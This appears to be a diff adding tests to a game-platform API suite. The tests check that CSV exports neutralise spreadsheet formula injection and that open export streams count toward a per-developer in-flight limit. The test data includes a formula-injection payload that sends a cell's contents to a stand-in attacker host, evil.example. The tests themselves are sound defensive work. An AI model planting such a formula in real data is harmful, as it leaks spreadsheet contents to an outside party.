@@ -19,6 +19,7 @@ import {
   world,
 } from '../../support/console.ts';
 import { sql } from '../../support/database.ts';
+import { until } from '../../support/live.ts';
 import { api, startTestSystem, type TestSystem } from '../../support/system.ts';
 import { gql, requestsBetween, transportRequests } from '../graphql/helpers.ts';
 
@@ -205,6 +206,34 @@ describe('the export holds what the decision search finds, oldest first', () => 
     expect(rows).toEqual(expected.map(asCsvRow));
   });
 
+  test("CSV: text a spreadsheet would run as a formula begins with ' (OWASP); NDJSON keeps it as it is", async () => {
+    const gameId = (
+      await ok(system, owner.token, {
+        type: 'createGame',
+        projectId: w.projectId,
+        name: 'Formula game',
+        platform: 'web',
+        maxPayoutCredits: 100,
+        dailyPlayerCapCredits: 10,
+      })
+    ).id as string;
+    const externalIds = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+2', '-2+3', '@SUM(A1:A9)', 'safe=1'];
+    for (const externalPlayerId of externalIds) {
+      await insertEvents(system, gameId, await insertPlayer(system, gameId, { externalPlayerId }), 1);
+    }
+    const query = { gameId, from, to: new Date(Date.now() + 60_000).toISOString() };
+    const ndjson = ndjsonLines((await exportText(owner.token, query)).text);
+    expect(new Set(ndjson.map((line) => line.externalPlayerId))).toEqual(new Set(externalIds));
+    const response = await exportText(owner.token, { ...query, format: 'csv' });
+    const [header, ...rows] = csvRows(response.text);
+    const column = header!.indexOf('externalPlayerId');
+    expect(new Set(rows.map((row) => row[column]))).toEqual(
+      new Set([`'=HYPERLINK("https://evil.example/?"&A1,"open")`, "'+1+2", "'-2+3", "'@SUM(A1:A9)", 'safe=1']),
+    );
+    // No record has a field that begins like a formula.
+    for (const row of rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   test('an empty window: NDJSON is empty, CSV is its header row', async () => {
     const window = { gameId: w.gameId, from: '2020-01-01T00:00:00Z', to: '2020-01-31T00:00:00Z' };
     expect(await exportText(owner.token, window)).toMatchObject({ status: 200, text: '' });
@@ -360,3 +389,63 @@ describe('streamed, and a ledger failure', () => {
     expect(lines.map((line) => line.id)).toEqual(await largeIds());
   });
 });
+
+describe("an export stream is one of its developer's requests in flight for as long as it runs", () => {
+  const IN_FLIGHT_MAX = 3;
+  let limited: TestSystem;
+  beforeAll(async () => {
+    limited = await startTestSystem({
+      env: { DECISION_EXPORT_PAGE_SIZE: String(PAGE_SIZE), DEVELOPER_IN_FLIGHT_MAX: String(IN_FLIGHT_MAX) },
+    });
+  });
+  afterAll(async () => {
+    await limited?.stop();
+  });
+
+  test('streams held open fill DEVELOPER_IN_FLIGHT_MAX; each gives its slot back when it ends', async () => {
+    const dev = await developer(limited);
+    const other = await developer(limited);
+    const game = await world(limited, dev.token);
+    await insertEvents(limited, game.gameId, await insertPlayer(limited, game.gameId), LARGE_DECISIONS);
+    const query = { gameId: game.gameId, from, to: new Date(Date.now() + 60_000).toISOString() };
+    const access = (token: string) => api(limited.url, 'GET', '/api/developer/v1/access', { token });
+    // Streams that the client reads one chunk of, then leaves pending (more than the socket buffers hold).
+    const streams = await Promise.all(
+      Array.from({ length: IN_FLIGHT_MAX }, async () => {
+        const controller = new AbortController();
+        const response = await fetch(`${limited.url}${exportPath(query)}`, {
+          headers: { Authorization: `Bearer ${dev.token}` },
+          signal: controller.signal,
+        });
+        expect(response.status).toBe(200);
+        const reader = response.body!.getReader();
+        expect((await reader.read()).done).toBe(false);
+        return { controller, reader };
+      }),
+    );
+    try {
+      const refused = await access(dev.token);
+      expectError(refused, 429, 'TOO_MANY_REQUESTS');
+      expect(refused.body.error.message).toMatch(/in flight/);
+      // Another export of the same developer likewise; another developer is served.
+      expectError(await api(limited.url, 'GET', exportPath(query), { token: dev.token }), 429, 'TOO_MANY_REQUESTS');
+      expect((await access(other.token)).status).toBe(200);
+    } finally {
+      for (const { controller } of streams) controller.abort();
+    }
+    // The client left: the slots come back.
+    await until(async () => (await access(dev.token)).status === 200, 'the slots to be given back', 10_000);
+    // An export read to its end gives its slot back too.
+    for (let i = 0; i < IN_FLIGHT_MAX; i++) {
+      const whole = await exportFrom(limited, dev.token, query);
+      expect(whole.status).toBe(200);
+      expect(ndjsonLines(whole.text)).toHaveLength(LARGE_DECISIONS);
+    }
+    expect((await access(dev.token)).status).toBe(200);
+  }, 120_000);
+});
+
+async function exportFrom(on: TestSystem, token: string, query: Record<string, string>) {
+  const response = await fetch(`${on.url}${exportPath(query)}`, { headers: { Authorization: `Bearer ${token}` } });
+  return { status: response.status, text: await response.text() };
+}
